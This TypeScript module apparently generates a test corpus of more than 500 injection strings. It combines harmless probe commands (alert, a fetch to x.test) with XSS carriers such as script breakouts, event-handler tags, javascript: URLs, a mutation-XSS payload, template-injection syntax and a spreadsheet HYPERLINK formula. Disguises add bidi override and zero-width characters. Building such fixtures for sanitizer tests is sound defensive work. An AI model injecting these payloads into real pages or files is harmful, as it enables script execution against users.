const commands = [
  "alert(1)",
  "window.hit=1",
  "document.title='hit'",
  "fetch('https://x.test/')",
  "top.hit=1",
];

const carriers = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `</script><script>${code}</script>`,
  (code: string) => `</style><script>${code}//`,
  (code: string) => `</title><img src=x onerror=${code}>`,
  (code: string) => `<img src=x onerror="${code}">`,
  (code: string) => `"><svg onload=${code}>`,
  (code: string) => `'><iframe src="javascript:${code}">`,
  (code: string) => `" onmouseover="${code}" autofocus onfocus="${code}`,
  (code: string) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code: string) => `<details open ontoggle=${code}>`,
  (code: string) => `[click](javascript:${code})`,
  (code: string) => `![x](https://x.test/${code})`,
  (code: string) => `<javascript:${code}>`,
  (code: string) => `{{constructor.constructor("${code}")()}}`,
  (code: string) => `\${${code}} #{${code}} <%= ${code} %>`,
  (code: string) => `]]>--><!--><script>${code}</script>`,
  (code: string) => `<math><mtext></table><style><img title="</style><img src=x onerror=${code}>">`,
  (code: string) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code: string) => `=HYPERLINK("javascript:${code}";"a")`,
  (code: string) => `url(javascript:${code})`,
  (code: string) => `&lt;script&gt;${code}&#60;/script&#62;`,
];

const disguises = [
  (text: string) => text,
  (text: string) => `\u202E${text}\u202C`,
  (text: string) => `${text.slice(0, 3)}\u200B\u0000${text.slice(3)}`,
  (text: string) => `A customer wrote: ${text.toUpperCase().replace("ALERT", "alert")} and left`,
  (text: string) => `${text}${"W".repeat(300)}`,
];

/** More than 500 strings that would do harm if they were read as markup, script, template, address or formula. */
export const hostileStrings: readonly string[] = disguises.flatMap((disguise) =>
  carriers.flatMap((carrier) => commands.map((command) => disguise(carrier(command)))),
);
